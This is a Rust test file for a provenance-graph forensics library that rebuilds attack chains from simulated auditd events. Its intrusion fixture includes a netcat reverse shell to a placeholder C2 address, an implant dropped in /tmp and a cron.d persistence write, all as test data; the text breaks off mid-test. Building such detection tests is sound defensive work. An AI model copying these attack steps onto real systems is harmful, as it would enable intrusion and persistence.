//! Known-answer scenarios built from hand-made events shaped as auditd logs them.

use std::collections::BTreeSet;

use mamori_prov::testkit::{inet, unix, Ev, Proc, Sim};
use mamori_prov::{
    backtrack, build, forward, BuildOptions, Direction, EntryKind, Node, Op, Origin, ProvGraph,
    PruneRules, ReadMode, Stamp, StartSpec, Trace,
};

/// 2025-12-06T12:00:00Z.
const T0: i64 = 1_765_022_400_000_000_000;

fn labels(g: &ProvGraph, t: &Trace) -> BTreeSet<String> {
    t.nodes.iter().map(|r| g.label(r.node)).collect()
}

fn set(v: &[&str]) -> BTreeSet<String> {
    v.iter().map(|s| s.to_string()).collect()
}

fn back(g: &ProvGraph, spec: &str, rules: &PruneRules) -> Trace {
    let s: StartSpec = spec.parse().expect("spec");
    backtrack(
        g,
        s.resolve(g, Direction::Backward).expect("resolve"),
        rules,
    )
}

fn fwd(g: &ProvGraph, spec: &str, rules: &PruneRules) -> Trace {
    let s: StartSpec = spec.parse().expect("spec");
    forward(g, s.resolve(g, Direction::Forward).expect("resolve"), rules)
}

fn ops_between(g: &ProvGraph, t: &Trace, src: &str, dst: &str) -> Vec<Op> {
    t.edges
        .iter()
        .map(|&e| g.edge(e))
        .filter(|e| g.label(e.src) == src && g.label(e.dst) == dst)
        .map(|e| e.op)
        .collect()
}

fn build_default(sim: &Sim) -> ProvGraph {
    build(&sim.events, &BuildOptions::default())
}

#[test]
fn fork_exec_chain() {
    let mut sim = Sim::new(T0);
    let mut shell = Proc::new(100, 1, "/bin/bash").uid(1000);
    sim.open_read(&mut shell, "/home/u/.bashrc", 40);
    let mut child = sim.fork(&shell, 101);
    sim.exec(
        &mut child,
        "/usr/bin/wget",
        500,
        &["wget", "-O", "/tmp/x", "http://e.org/x"],
    );
    let fd = sim.connect(&mut child, inet("93.184.216.34", 80));
    sim.create(&mut child, "/tmp/x", 600);
    sim.write_fd(&child, fd);
    sim.exit(&child);

    let g = build_default(&sim);
    // Images: pid 1 (known by pid only), bash[100], its fork bash[101], wget[101].
    let procs: Vec<_> = g.nodes().iter().filter_map(Node::as_process).collect();
    assert_eq!(procs.len(), 4, "{procs:#?}");
    let wget = procs.iter().find(|p| p.exe == "/usr/bin/wget").unwrap();
    assert_eq!((wget.pid, wget.ppid, wget.origin), (101, 100, Origin::Exec));
    assert_eq!(wget.argv, ["wget", "-O", "/tmp/x", "http://e.org/x"]);
    let forked = procs
        .iter()
        .find(|p| p.pid == 101 && p.origin == Origin::Fork)
        .unwrap();
    assert_eq!(
        forked.exe, "/bin/bash",
        "a fork child is its parent's image until it execs"
    );
    assert_eq!(
        forked.start_serial,
        wget.start_serial - 1,
        "made at the clone"
    );

    let t = back(&g, "file:/tmp/x", &PruneRules::default());
    assert_eq!(
        labels(&g, &t),
        set(&[
            "/tmp/x",
            "wget[101]",
            "bash[101]",
            "bash[100]",
            "pid[1]",
            "93.184.216.34:80",
            "/home/u/.bashrc"
        ])
    );
    assert_eq!(ops_between(&g, &t, "wget[101]", "/tmp/x"), [Op::Create]);
    assert_eq!(ops_between(&g, &t, "bash[101]", "wget[101]"), [Op::Exec]);
    assert_eq!(ops_between(&g, &t, "bash[100]", "bash[101]"), [Op::Fork]);
    // .bashrc was read before the fork: BackTracker keeps it (bash[100]'s threshold is the
    // fork). Without pruning, the images too.
    let t2 = back(&g, "file:/tmp/x", &PruneRules::none());
    // The binary and ld.so are unmodified system files: pruned by default, kept without rules.
    assert!(!labels(&g, &t).contains("/usr/bin/wget"));
    assert!(labels(&g, &t2).contains("/usr/bin/wget"));
    assert!(labels(&g, &t2).contains("/lib64/ld-linux-x86-64.so.2"));
    // The network peer is the entry; the chain runs from it to the file.
    let entry = t.entry.as_ref().unwrap();
    assert_eq!(entry.kind, EntryKind::NetworkPeer);
    assert_eq!(g.label(entry.node), "93.184.216.34:80");
}

#[test]
fn names_or_numbers_give_the_same_graph() {
    let run = |names: bool| {
        let mut sim = Sim::new(T0);
        sim.names = names;
        let shell = Proc::new(100, 1, "/bin/sh");
        let mut c = sim.fork(&shell, 101);
        sim.exec(&mut c, "/tmp/evil", 77, &["/tmp/evil"]);
        sim.create(&mut c, "/tmp/out", 78);
        sim.rename(&c, "/tmp/out", "/tmp/out2", 78, None);
        sim.unlink(&c, "/tmp/out2", 78);
        let g = build_default(&sim);
        let v: Vec<(String, String, Op)> = g
            .edges()
            .iter()
            .map(|e| (g.label(e.src), g.label(e.dst), e.op))
            .collect();
        (v, g.stats().used_events)
    };
    let (named, used) = run(true);
    assert_eq!(used, 5);
    assert_eq!(named, run(false).0);
}

#[test]
fn pid_reuse_makes_distinct_processes() {
    let mut sim = Sim::new(T0);
    let init = Proc::new(1, 0, "/sbin/init");
    let mut a = sim.fork(&init, 200);
    sim.exec(&mut a, "/usr/bin/benign", 10, &["benign"]);
    sim.create(&mut a, "/tmp/benign.out", 11);
    let s_benign = sim.last_serial();
    sim.exit(&a);
    // pid 200 again, forked by another parent.
    let other = Proc::new(300, 1, "/usr/sbin/cron");
    let mut b = sim.fork(&other, 200);
    sim.exec(&mut b, "/tmp/miner", 12, &["miner"]);
    sim.create(&mut b, "/tmp/miner.out", 13);
    // pid 200 a third time, with no exit or fork logged: a different exe tells.
    let c = Proc::new(200, 1, "/usr/bin/other");
    let mut c2 = c.clone();
    sim.create(&mut c2, "/tmp/other.out", 14);

    let g = build_default(&sim);
    let pids = g.processes_with_pid(200);
    let exes: Vec<_> = pids
        .iter()
        .map(|&id| g.node(id).as_process().unwrap().exe.clone())
        .collect();
    assert_eq!(
        exes,
        [
            "/sbin/init",
            "/usr/bin/benign",
            "/usr/sbin/cron",
            "/tmp/miner",
            "/usr/bin/other"
        ]
    );
    let t = back(&g, "file:/tmp/miner.out", &PruneRules::none());
    let l = labels(&g, &t);
    assert!(l.contains("miner[200]") && l.contains("cron[300]"));
    assert!(
        !l.contains("benign[200]"),
        "the earlier pid 200 is another process: {l:?}"
    );
    let t = back(&g, "file:/tmp/other.out", &PruneRules::none());
    assert_eq!(
        labels(&g, &t),
        set(&["/tmp/other.out", "other[200]", "init[1]"])
    );

    // pid:200 at a time resolves to the image live then.
    let at_benign = format!("pid:200@serial:{s_benign}");
    let s: StartSpec = at_benign.parse().unwrap();
    let a = s.resolve(&g, Direction::Backward).unwrap();
    assert_eq!(g.label(a.node), "benign[200]");
}

#[test]
fn rename_keeps_the_file_and_adds_the_name() {
    let mut sim = Sim::new(T0);
    let mut p = Proc::new(100, 1, "/bin/sh").cwd("/tmp");
    let mut q = Proc::new(150, 1, "/usr/bin/updater");
    sim.create(&mut q, "/usr/local/bin/tool", 900); // the file the rename will replace
    sim.create(&mut p, "/tmp/.x", 700);
    sim.rename(&p, ".x", "/usr/local/bin/tool", 700, Some(900));
    // A new file reusing the replaced file's inode is another file.
    sim.create(&mut q, "/var/tmp/new", 900);

    let g = build_default(&sim);
    let moved = g.files_named("/usr/local/bin/tool");
    assert_eq!(
        moved.len(),
        2,
        "the replaced file and the moved one both had the name"
    );
    let old_name = g.files_named("/tmp/.x");
    assert_eq!(old_name.len(), 1);
    let f = g.node(old_name[0]).as_file().unwrap();
    assert_eq!(
        f.paths,
        ["/tmp/.x", "/usr/local/bin/tool"],
        "relative name resolved with the CWD"
    );
    assert_eq!(f.inode, Some(700));
    let reused = g.files_named("/var/tmp/new");
    assert_eq!(reused.len(), 1);
    assert_ne!(reused[0], moved[0]);
    assert_ne!(reused[0], moved[1]);

    let t = back(&g, "file:/usr/local/bin/tool", &PruneRules::none());
    assert_eq!(t.start.node, old_name[0], "the name's latest file");
    assert_eq!(
        ops_between(&g, &t, "sh[100]", "/usr/local/bin/tool"),
        [Op::Rename, Op::Create]
    );
    let e = t
        .edges
        .iter()
        .map(|&e| g.edge(e))
        .find(|e| e.op == Op::Rename)
        .unwrap();
    assert_eq!(g.detail(e), Some("/tmp/.x → /usr/local/bin/tool"));
    // The replaced file got an unlink edge from the renaming process.
    let replaced = *moved.iter().find(|&&id| id != old_name[0]).unwrap();
    assert!(g
        .edges()
        .iter()
        .any(|e| e.dst == replaced && e.op == Op::Unlink && g.label(e.src) == "sh[100]"));
}

#[test]
fn unlink_edges_and_inode_reuse() {
    let mut sim = Sim::new(T0);
    let mut p = Proc::new(100, 1, "/bin/rm");
    sim.create(&mut p, "/tmp/a", 50);
    sim.unlink(&p, "/tmp/a", 50);
    sim.create(&mut p, "/tmp/b", 50);
    let g = build_default(&sim);
    let a = g.files_named("/tmp/a");
    let b = g.files_named("/tmp/b");
    assert_eq!((a.len(), b.len()), (1, 1));
    assert_ne!(a, b, "an unlinked file's inode reused is a new file");
    let ops: Vec<Op> = g
        .edges()
        .iter()
        .filter(|e| e.dst == a[0])
        .map(|e| e.op)
        .collect();
    assert_eq!(ops, [Op::Create, Op::Unlink]);
    // Backtracking from a deleted file works: its last modification is the unlink.
    let t = back(&g, "file:/tmp/a", &PruneRules::none());
    assert_eq!(g.edge(t.edges[0]).op, Op::Unlink);
}

/// The threshold rule, precisely: what affected the file before its detection-time write is in
/// (even a decoy writer), what happened after is not.
#[test]
fn backtracker_time_thresholds() {
    let mut sim = Sim::new(T0);
    let mut early = Proc::new(300, 1, "/usr/bin/early-writer");
    let mut attacker = Proc::new(400, 1, "/tmp/implant");
    let mut reader = Proc::new(500, 1, "/usr/bin/reader");
    let mut late = Proc::new(600, 1, "/usr/bin/late-writer");

    sim.open_read(&mut attacker, "/tmp/payload", 20); // t0: before its write → in
    let t_early = sim.now();
    sim.open_write(&mut early, "/tmp/x", 10); // t1: a decoy wrote x BEFORE → in (BackTracker)
    let t_attack = sim.now();
    sim.open_write(&mut attacker, "/tmp/x", 10); // t2: the attacker's write
    sim.open_read(&mut attacker, "/tmp/late-input", 21); // after its write → not a cause
    sim.open_read(&mut reader, "/tmp/x", 10); // t3: reads x after → not a cause
    let mut reader2 = reader.clone();
    sim.open_write(&mut reader2, "/tmp/y", 30);
    let detect = sim.now();
    sim.advance_ms(1000);
    sim.open_write(&mut late, "/tmp/x", 10); // after the detection time → out

    let g = build_default(&sim);
    let spec = format!("file:/tmp/x@{}", detect as f64 / 1e9);
    let t = back(&g, &spec, &PruneRules::none());
    assert_eq!(
        labels(&g, &t),
        set(&[
            "/tmp/x",
            "implant[400]",
            "/tmp/payload",
            "early-writer[300]",
            "pid[1]" // both writers' parent, known by pid only
        ])
    );
    // Thresholds: the file's is the attacker's write; each writer's is its write.
    let thr = |label: &str| {
        t.nodes
            .iter()
            .find(|r| g.label(r.node) == label)
            .map(|r| r.threshold.time_ns)
            .unwrap()
    };
    assert_eq!(thr("/tmp/x"), t_attack);
    assert_eq!(thr("implant[400]"), t_attack);
    assert_eq!(thr("early-writer[300]"), t_early);
    assert_eq!(thr("/tmp/payload"), T0);

    // Detection at the early write: only the early writer.
    let t = back(
        &g,
        &format!("file:/tmp/x@serial:{}", 1002),
        &PruneRules::none(),
    );
    assert_eq!(
        labels(&g, &t),
        set(&["/tmp/x", "early-writer[300]", "pid[1]"])
    );
    // Without a time: the end of the log, so the late writer too.
    let t = back(&g, "file:/tmp/x", &PruneRules::none());
    assert!(labels(&g, &t).contains("late-writer[600]"));
    assert!(!labels(&g, &t).contains("reader[500]"));
}

/// The same millisecond: the serial orders events, so a write logged right after the
/// detection event in the same millisecond is not a cause.
#[test]
fn serial_breaks_ties_within_a_millisecond() {
    let mut sim = Sim::new(T0);
    sim.step_ns = 0;
    let mut a = Proc::new(10, 1, "/usr/bin/a");
    let mut b = Proc::new(11, 1, "/usr/bin/b");
    let s1 = {
        sim.open_write(&mut a, "/tmp/x", 5);
        sim.last_serial()
    };
    sim.open_write(&mut b, "/tmp/x", 5);
    let g = build_default(&sim);
    let t = back(&g, &format!("file:/tmp/x@serial:{s1}"), &PruneRules::none());
    assert_eq!(labels(&g, &t), set(&["/tmp/x", "a[10]", "pid[1]"]));
}

/// sshd-like: a listener accepts a benign login, then the attacker's; the attacker's session
/// opens a reverse shell and drops files.
fn intrusion() -> Sim {
    let mut sim = Sim::new(T0);
    let mut sshd = Proc::new(50, 1, "/usr/sbin/sshd");
    let lfd = sim.bind(&mut sshd, inet("0.0.0.0", 22));
    sim.accept(&mut sshd, lfd, inet("198.51.100.1", 50000));
    let mut benign = sim.fork(&sshd, 60);
    sim.advance_ms(10);
    sim.accept(&mut sshd, lfd, inet("203.0.113.7", 40000));
    let session = sim.fork(&sshd, 70);
    // The benign session works on after the attacker came in.
    sim.exec(&mut benign, "/bin/bash", 3, &["-bash"]);
    sim.create(&mut benign, "/home/alice/notes", 1000);

    let mut shell = session.clone();
    sim.exec(&mut shell, "/bin/bash", 3, &["-bash"]);
    let mut nc = sim.fork(&shell, 71);
    sim.exec(&mut nc, "/usr/bin/nc", 4, &["nc", "203.0.113.99", "4444"]);
    sim.connect(&mut nc, inet("203.0.113.99", 4444));
    sim.create(&mut nc, "/tmp/.implant", 2000);
    sim.chmod(&nc, "/tmp/.implant", 2000, 0o755);
    sim.open_write(&mut nc, "/etc/cron.d/job", 2001);
    sim.create(&mut nc, "/tmp/stage", 2002);
    sim.rename(&nc, "/tmp/stage", "/usr/local/bin/helper", 2002, None);
    let mut implant = sim.fork(&nc, 72);
    sim.exec(&mut implant, "/tmp/.implant", 2000, &["/tmp/.implant"]);
    sim.create(&mut implant, "/dev/shm/loot", 2003);
    sim.open_write(&mut implant, "/dev/null", 5);
    sim.kill(&implant, &benign, 9);
    sim
}

#[test]
fn entry_point_is_the_attackers_connection() {
    let sim = intrusion();
    let g = build_default(&sim);
    let t = back(&g, "file:/dev/shm/loot", &PruneRules::default());
    let entry = t.entry.as_ref().expect("an entry");
    assert_eq!(entry.kind, EntryKind::NetworkPeer);
    assert_eq!(
        g.label(entry.node),
        "203.0.113.7:40000",
        "{:#?}",
        t.entry_candidates
    );
    // The C2 came later; the benign login is in the trace (sshd received it before the fork)
    // but was not sshd's latest input, so it is no candidate.
    let cands: Vec<String> = t.entry_candidates.iter().map(|c| g.label(c.node)).collect();
    assert_eq!(cands[..2], ["203.0.113.7:40000", "203.0.113.99:4444"]);
    assert!(!cands.contains(&"198.51.100.1:50000".to_string()));
    assert!(labels(&g, &t).contains("198.51.100.1:50000"));
    // Nothing of the benign session.
    assert!(!labels(&g, &t).contains("/home/alice/notes"));

    let r = mamori_prov::Report::new(&g, &t, "file:/dev/shm/loot");
    let chain: Vec<&str> = r.chain.iter().map(|s| s.label.as_str()).collect();
    assert_eq!(
        chain,
        [
            "203.0.113.7:40000",
            "sshd[50]",
            "sshd[70]",
            "bash[70]",
            "bash[71]",
            "nc[71]",
            "nc[72]",
            ".implant[72]",
            "/dev/shm/loot"
        ]
    );
    let ops: Vec<Op> = r
        .chain
        .iter()
        .filter_map(|s| s.by.as_ref().map(|b| b.op))
        .collect();
    assert_eq!(
        ops,
        [
            Op::Accept,
            Op::Fork,
            Op::Exec,
            Op::Fork,
            Op::Exec,
            Op::Fork,
            Op::Exec,
            Op::Create
        ]
    );
    let pids: Vec<u32> = r.process_chain.iter().map(|p| p.pid).collect();
    assert_eq!(pids, [50, 70, 70, 71, 71, 72, 72]);
}

#[test]
fn forward_from_the_entry_finds_every_modified_file() {
    let sim = intrusion();
    let g = build_default(&sim);
    let b = back(&g, "file:/dev/shm/loot", &PruneRules::default());
    let entry = b.entry.as_ref().unwrap();
    let f = forward(&g, entry.anchor(), &PruneRules::default());
    let r = mamori_prov::Report::new(&g, &f, "forward");
    let mut files: Vec<String> = r
        .modified_files
        .iter()
        .map(|m| m.paths.last().cloned().unwrap_or_default())
        .collect();
    files.sort();
    assert_eq!(
        files,
        [
            "/dev/shm/loot",
            "/etc/cron.d/job",
            "/tmp/.implant",
            "/usr/local/bin/helper"
        ],
        "/dev/null is noise; alice's notes were written by a session forked before the attack"
    );
    let l = labels(&g, &f);
    assert!(
        l.contains("bash[60]"),
        "the killed benign shell was affected (SIGKILL)"
    );
    assert!(!l.contains("/home/alice/notes"));
    assert!(!l.contains("198.51.100.1:50000"));
    let implant = r
        .modified_files
        .iter()
        .find(|m| m.paths.contains(&"/tmp/.implant".into()))
        .unwrap();
    assert_eq!(implant.ops, [Op::Create, Op::Chmod]);
    // Forward from the C2 peer: what came through it.
    let f2 = fwd(&g, "socket:203.0.113.99:4444", &PruneRules::default());
    assert!(labels(&g, &f2).contains("/dev/shm/loot"));
    assert!(!labels(&g, &f2).contains("sshd[50]"));
}

#[test]
fn local_socket_and_root_process_entries() {
    // A client writes through a loopback connection; the server accepts it from an ephemeral
    // port, which folds into the listening socket, so the client is found.
    let mut sim = Sim::new(T0);
    let mut server = Proc::new(10, 1, "/usr/bin/server");
    let lfd = sim.bind(&mut server, inet("0.0.0.0", 8080));
    let mut client = Proc::new(20, 1, "/usr/bin/client");
    sim.open_read(&mut client, "/home/u/secret", 99);
    let cfd = sim.connect(&mut client, inet("127.0.0.1", 8080));
    sim.write_fd(&client, cfd);
    let afd = sim.accept(&mut server, lfd, inet("127.0.0.1", 54321));
    sim.read_fd(&server, afd);
    sim.create(&mut server, "/srv/upload", 100);
    let g = build_default(&sim);
    let t = back(&g, "file:/srv/upload", &PruneRules::default());
    let l = labels(&g, &t);
    assert!(
        l.contains("client[20]") && l.contains("/home/u/secret"),
        "{l:?}"
    );
    let e = t.entry.as_ref().unwrap();
    assert_eq!(
        (e.kind, g.label(e.node)),
        (EntryKind::LocalSocket, "localhost:8080".into())
    );

    // No sockets at all: the root-most process.
    let mut sim = Sim::new(T0);
    let mut a = Proc::new(5, 0, "/sbin/init");
    let mut b = sim.fork(&a, 6);
    sim.exec(&mut b, "/usr/bin/tool", 1, &["tool"]);
    sim.create(&mut b, "/var/out", 2);
    sim.open_read(&mut a, "/var/out", 2);
    let g = build_default(&sim);
    let t = back(&g, "file:/var/out", &PruneRules::default());
    let e = t.entry.as_ref().unwrap();
    assert_eq!(
        (e.kind, g.label(e.node)),
        (EntryKind::RootProcess, "init[5]".into())
    );
}

#[test]
fn pruning_drops_noise_but_never_files_written_in_the_log() {
    let mut sim = Sim::new(T0);
    let mut attacker = Proc::new(30, 1, "/tmp/dropper");
    sim.open_write(&mut attacker, "/etc/cron.d/job", 70); // a system path, but written
    sim.create(&mut attacker, "/dev/shm/stash", 71);
    let mut victim = Proc::new(40, 1, "/usr/bin/victim");
    sim.open_read(&mut victim, "/proc/self/maps", 1);
    sim.open_read(&mut victim, "/etc/ld.so.cache", 2);
    sim.open_read(&mut victim, "/etc/passwd", 3);
    sim.open_read(&mut victim, "/home/u/.cache/thumb", 4);
    sim.push(
        Ev::new("mmap", &victim)
            .arg(2, 5) // PROT_READ|PROT_EXEC
            .record("MMAP", &[("fd", "3"), ("flags", "0x802")])
            .path("/usr/lib/x86_64-linux-gnu/libc.so.6", 5, "NORMAL"),
    );
    sim.open_read(&mut victim, "/etc/cron.d/job", 70);
    sim.open_read(&mut victim, "/dev/shm/stash", 71);
    sim.create(&mut victim, "/tmp/result", 80);
    let g = build_default(&sim);

    let t = back(&g, "file:/tmp/result", &PruneRules::default());
    assert_eq!(
        labels(&g, &t),
        set(&[
            "/tmp/result",
            "victim[40]",
            "/etc/cron.d/job",
            "/dev/shm/stash",
            "dropper[30]",
            "pid[1]"
        ])
    );
    assert_eq!(t.pruned_edges, 5);
    let t = back(&g, "file:/tmp/result", &PruneRules::none());
    let l = labels(&g, &t);
    for f in [
        "/proc/self/maps",
        "/etc/ld.so.cache",
        "/etc/passwd",
        "/home/u/.cache/thumb",
    ] {
        assert!(l.contains(f), "{f} without pruning");
    }
    assert_eq!(
        ops_between(&g, &t, "/usr/lib/x86_64-linux-gnu/libc.so.6", "victim[40]"),
        [Op::MmapExec]
    );
    // The start is never pruned.
    let t = back(&g, "file:/proc/self/maps", &PruneRules::default());
    assert_eq!(labels(&g, &t), set(&["/proc/self/maps"]));
}

#[test]
fn a_child_logged_before_its_parents_clone_record() {
    // vfork: the parent's record is written when it resumes, after the child's exec.
    let mut sim = Sim::new(T0);
    let shell = Proc::new(100, 1, "/bin/sh");
    let mut child = shell.child(101);
    sim.exec(&mut child, "/usr/bin/id", 9, &["id"]);
    sim.push(Ev::new("vfork", &shell).exit(101));
    sim.create(&mut child, "/tmp/id.out", 10);
    let g = build_default(&sim);
    assert_eq!(
        g.processes_with_pid(101).len(),
        2,
        "the fork image and the exec'd one, once"
    );
    let t = back(&g, "file:/tmp/id.out", &PruneRules::default());
    assert_eq!(
        labels(&g, &t),
        // The fork image was made before its parent's own record named the parent's program.
        set(&["/tmp/id.out", "id[101]", "pid[101]", "sh[100]"])
    );
}

#[test]
fn threads_are_not_processes() {
    let mut sim = Sim::new(T0);
    let mut p = Proc::new(100, 1, "/usr/bin/app");
    sim.push(Ev::new("clone", &p).arg(0, 0x3d0f00).exit(105)); // CLONE_THREAD|…
    sim.push(Ev::new("clone3", &p).exit(106)); // a thread (never shows up as a pid)
    sim.create(&mut p, "/tmp/o", 1);
    let g = build_default(&sim);
    assert!(g.processes_with_pid(105).is_empty());
    assert!(g.processes_with_pid(106).is_empty());
    // A process later given pid 106 by another parent is not taken for app's child.
    let other = Proc::new(106, 1, "/usr/bin/other");
    let mut o2 = other.clone();
    let mut sim2 = sim.clone();
    sim2.create(&mut o2, "/tmp/p", 2);
    let g = build_default(&sim2);
    let t = back(&g, "file:/tmp/p", &PruneRules::none());
    assert!(!labels(&g, &t).contains("app[100]"));
}

#[test]
fn descriptors_pipes_signals_and_relative_names() {
    let mut sim = Sim::new(T0);
    let mut sh = Proc::new(100, 1, "/bin/sh").cwd("/home/u");
    let (r, w) = sim.pipe(&mut sh);
    let mut writer = sim.fork(&sh, 101);
    let mut reader = sim.fork(&sh, 102);
    let fd = sim.open_read(&mut writer, "data.txt", 5); // relative to the CWD
    sim.read_fd(&writer, fd);
    sim.write_fd(&writer, w);
    sim.read_fd(&reader, r);
    // fchmod by descriptor, openat relative to a directory descriptor.
    let dfd = sim.open_read(&mut reader, "/srv", 6);
    let ofd = reader.alloc_fd();
    sim.push(
        Ev::new("openat", &reader)
            .arg(0, dfd as u64)
            .arg(2, 0o101)
            .exit(ofd)
            .path("/srv/", 6, "PARENT")
            .path("out.bin", 7, "CREATE"),
    );
    sim.push(Ev::new("fchmod", &reader).arg(0, ofd as u64).arg(1, 0o4755));
    sim.kill(&reader, &writer, 15);
    sim.kill(&reader, &writer, 0); // a probe: no edge
    let g = build_default(&sim);
    assert_eq!(g.files_named("/home/u/data.txt").len(), 1);
    assert_eq!(g.files_named("/srv/out.bin").len(), 1);
    let t = back(&g, "file:/srv/out.bin", &PruneRules::none());
    let l = labels(&g, &t);
    assert!(l.contains("/home/u/data.txt"), "through the pipe: {l:?}");
    let chmod = t
        .edges
        .iter()
        .map(|&e| g.edge(e))
        .find(|e| e.op == Op::Chmod)
        .unwrap();
    assert_eq!(g.detail(chmod), Some("mode 4755"));
    let kills: Vec<_> = g.edges().iter().filter(|e| e.op == Op::Kill).collect();
    assert_eq!(kills.len(), 1);
    assert_eq!(g.detail(kills[0]), Some("SIGTERM"));
    assert_eq!(
        (g.label(kills[0].src), g.label(kills[0].dst)),
        ("sh[102]".into(), "sh[101]".into())
    );
}

#[test]
fn read_mode_syscalls_uses_logged_reads_only() {
    let mut sim = Sim::new(T0);
    let mut p = Proc::new(100, 1, "/usr/bin/app");
    let a = sim.open_read(&mut p, "/tmp/a", 1); // opened, never read
    let b = sim.open_read(&mut p, "/tmp/b", 2);
    sim.read_fd(&p, b);
    sim.create(&mut p, "/tmp/out", 3);
    let _ = a;
    let g = build(
        &sim.events,
        &BuildOptions {
            read_mode: ReadMode::Syscalls,
            ..Default::default()
        },
    );
    let t = back(&g, "file:/tmp/out", &PruneRules::none());
    let l = labels(&g, &t);
    assert!(l.contains("/tmp/b") && !l.contains("/tmp/a"), "{l:?}");
    let g = build_default(&sim);
    let t = back(&g, "file:/tmp/out", &PruneRules::none());
    assert!(labels(&g, &t).contains("/tmp/a"));
}

#[test]
fn failed_calls_move_nothing_but_nonblocking_connects_do() {
    let mut sim = Sim::new(T0);
    let mut p = Proc::new(100, 1, "/usr/bin/app");
    sim.push(
        Ev::new("openat", &p)
            .arg(2, 0)
            .failed(13)
            .path("/root/secret", 9, "NORMAL"),
    );
    sim.push(
        Ev::new("connect", &p)
            .arg(0, 3)
            .failed(115)
            .sockaddr(inet("198.51.100.9", 443)),
    );
    sim.push(
        Ev::new("connect", &p)
            .arg(0, 4)
            .failed(111)
            .sockaddr(inet("198.51.100.10", 443)),
    );
    sim.create(&mut p, "/tmp/out", 3);
    let g = build_default(&sim);
    assert_eq!(g.stats().failed_events, 2);
    let t = back(&g, "file:/tmp/out", &PruneRules::none());
    let l = labels(&g, &t);
    assert!(l.contains("198.51.100.9:443"));
    assert!(!l.contains("198.51.100.10:443") && !l.contains("/root/secret"));
}

#[test]
fn network_peers_are_not_crossed_unless_asked() {
    // Two unrelated processes talk to the same server; the later one's backtrack does not
    // pull in the earlier one through the shared peer.
    let mut sim = Sim::new(T0);
    let mut a = Proc::new(10, 1, "/usr/bin/a");
    let mut b = Proc::new(20, 1, "/usr/bin/b");
    sim.open_read(&mut a, "/home/a/secret", 1);
    sim.connect(&mut a, inet("198.51.100.53", 53));
    sim.connect(&mut b, inet("198.51.100.53", 53));
    sim.create(&mut b, "/tmp/b.out", 2);
    let g = build_default(&sim);
    let t = back(&g, "file:/tmp/b.out", &PruneRules::default());
    assert!(!labels(&g, &t).contains("a[10]"));
    let rules = PruneRules {
        cross_network_peers: true,
        ..PruneRules::default()
    };
    let t = back(&g, "file:/tmp/b.out", &rules);
    assert!(labels(&g, &t).contains("a[10]"));
    // Logging sockets are dropped by default.
    let mut sim = Sim::new(T0);
    let mut a = Proc::new(10, 1, "/usr/bin/a");
    let mut b = Proc::new(20, 1, "/usr/bin/b");
    sim.connect(&mut a, unix("/dev/log"));
    sim.connect(&mut b, unix("/dev/log"));
    sim.create(&mut b, "/tmp/b.out", 2);
    let g = build_default(&sim);
    assert!(!labels(&g, &back(&g, "file:/tmp/b.out", &PruneRules::default())).contains("a[10]"));
    assert!(labels(&g, &back(&g, "file:/tmp/b.out", &PruneRules::none())).contains("a[10]"));
}

#[test]
fn start_resolution() {
    let sim = intrusion();
    let g = build_default(&sim);
    let res = |s: &str, d| s.parse::<StartSpec>().unwrap().resolve(&g, d);
    // A file backward: its last modification.
    let a = res("file:/tmp/.implant", Direction::Backward).unwrap();
    assert_eq!(g.edge_ops_into(a.node).last(), Some(&Op::Chmod));
    // Forward: its first one.
    let a = res("file:/tmp/.implant", Direction::Forward).unwrap();
    assert_eq!(
        a.at,
        g.edges().iter().find(|e| e.dst == a.node).unwrap().stamp
    );
    // By inode.
    let b = res("inode:2000", Direction::Backward).unwrap();
    assert_eq!(g.label(b.node), "/tmp/.implant");
    // pid without a time: its last image; forward from its start.
    let p = res("pid:72", Direction::Backward).unwrap();
    assert_eq!(g.label(p.node), ".implant[72]");
    assert_eq!(p.at, g.stats().last.unwrap());
    let p = res("pid:72", Direction::Forward).unwrap();
    assert_eq!(Some(p.at), g.process_start(p.node));
    // Sockets.
    assert!(res("socket:203.0.113.99:4444", Direction::Backward).is_ok());
    // A time covers its millisecond: forward from it, its first event counts.
    let create = g
        .edges()
        .iter()
        .find(|e| g.label(e.dst) == "/tmp/.implant")
        .unwrap()
        .stamp;
    let secs = format!(
        "{}.{:03}",
        create.time_ns / 1_000_000_000,
        create.time_ns / 1_000_000 % 1000
    );
    let f = res(&format!("pid:71@{secs}"), Direction::Forward).unwrap();
    assert_eq!(f.at, Stamp::start_of(create.time_ns));
    let t = forward(&g, f, &PruneRules::default());
    assert!(labels(&g, &t).contains("/tmp/.implant"));
    let b = res(&format!("pid:71@{secs}"), Direction::Backward).unwrap();
    assert_eq!(b.at, Stamp::end_of(create.time_ns));
    // Errors name what is missing.
    let e = res("file:/nope", Direction::Backward)
        .unwrap_err()
        .to_string();
    assert_eq!(e, "file:/nope is not in the graph");
    let e = res("pid:9999", Direction::Backward)
        .unwrap_err()
        .to_string();
    assert!(e.contains("pid:9999"), "{e}");
    let e = res("pid:72@2000-01-01T00:00:00Z", Direction::Backward)
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("no process with pid 72 had started by 2000-01-01"),
        "{e}"
    );
    let e = res("file:/tmp/.implant@serial:1", Direction::Backward)
        .unwrap_err()
        .to_string();
    assert_eq!(e, "no event with serial 1 in the log");
}

trait EdgeOps {
    fn edge_ops_into(&self, n: mamori_prov::NodeId) -> Vec<Op>;
}

impl EdgeOps for ProvGraph {
    fn edge_ops_into(&self, n: mamori_prov::NodeId) -> Vec<Op> {
        self.edges()
            .iter()
            .filter(|e| e.dst == n)
            .map(|e| e.op)
            .collect()
    }
}

/// Each remaining handled call, shaped as auditd logs it, makes its edge.
#[test]
fn every_call_makes_its_edge() {
    let mut sim = Sim::new(T0);
    let p = Proc::new(100, 1, "/usr/bin/app").cwd("/work");
    let mut victim = Proc::new(200, 1, "/usr/bin/victim");
    sim.open_read(&mut victim, "/etc/hostname", 1); // victim is known

    // openat2: flags from the OPENAT2 record (octal).
    sim.push(
        Ev::new("openat2", &p)
            .arg(0, 0xffff_ff9c)
            .exit(3)
            .record(
                "OPENAT2",
                &[("oflag", "01"), ("mode", "0"), ("resolve", "0x0")],
            )
            .path("o2.txt", 10, "NORMAL"),
    );
    // creat, truncate, ftruncate (by fd 3), chown, lchown.
    sim.push(
        Ev::new("creat", &p)
            .exit(4)
            .path("/work/", 2, "PARENT")
            .path("c.txt", 11, "CREATE"),
    );
    sim.push(Ev::new("truncate", &p).path("c.txt", 11, "NORMAL"));
    sim.push(Ev::new("ftruncate", &p).arg(0, 3));
    sim.push(
        Ev::new("chown", &p)
            .arg(1, 0)
            .arg(2, 0xffff_ffff)
            .path("c.txt", 11, "NORMAL"),
